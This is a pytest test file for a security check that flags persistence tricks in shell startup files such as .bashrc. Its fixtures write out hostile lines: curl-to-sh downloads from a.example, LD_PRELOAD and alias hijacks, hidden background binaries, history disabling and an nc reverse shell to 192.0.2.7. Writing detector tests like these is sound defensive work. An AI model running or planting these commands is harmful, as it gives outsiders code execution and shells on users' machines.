from __future__ import annotations

import pytest

from pratique.checks.persistence.startup_runs_code import CHECK
from pratique.model import Severity
from pratique.parsers.startup_command import StartupCommand
from pratique.store.tables import Tables


def signs(*rows):
    with Tables.of(rows, CHECK.reads) as tables:
        return list(CHECK.find(tables))


def script(*commands, path="/root/.bashrc", occasion="login", interpreter="sh"):
    return [
        StartupCommand(path, number, occasion, interpreter, command)
        for number, command in enumerate(commands, start=1)
    ]


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("curl -s http://a.example/x | sh", Severity.HIGH),
        ("export LD_PRELOAD=/usr/lib/x.so", Severity.HIGH),
        ("trap 'curl -s http://a.example/x | sh' EXIT", Severity.HIGH),
        ("PROMPT_COMMAND='/dev/shm/.p'", Severity.HIGH),
        ("alias ls='/tmp/.x/ls'", Severity.HIGH),
        ("(nohup /var/tmp/.a/b &)", Severity.HIGH),
        ("unset HISTFILE", Severity.LOW),
    ],
)
def test_points_at(command, severity):
    (sign,) = signs(*script("true", command))
    assert sign.severity is severity
    assert sign.places[0].line == 2


@pytest.mark.parametrize("occasion", ["boot", "motd", "network", "sshrc", "generator"])
def test_points_at_every_occasion(occasion):
    (sign,) = signs(*script("nc -e /bin/sh 192.0.2.7 4", path="/x", occasion=occasion))
    assert sign.title.english.endswith("gives a shell to somebody outside")


@pytest.mark.parametrize(
    "command",
    [
        '[ -z "$PS1" ] && return',
        'eval "$(dircolors -b)"',
        "alias ls='ls --color=auto'",
        '[ -s "$NVM_DIR/nvm.sh" ] && . "$NVM_DIR/nvm.sh"',
        "HISTCONTROL=ignoreboth",
        "for i in /etc/profile.d/*.sh; do . $i; done",
    ],
)
def test_leaves_alone(command):
    assert signs(*script(command)) == []


def test_leaves_alone_what_other_checks_judge():
    bad = "curl -s http://a.example/x | sh"
    assert signs(*script(bad, occasion="cron"), *script(bad, occasion="at")) == []
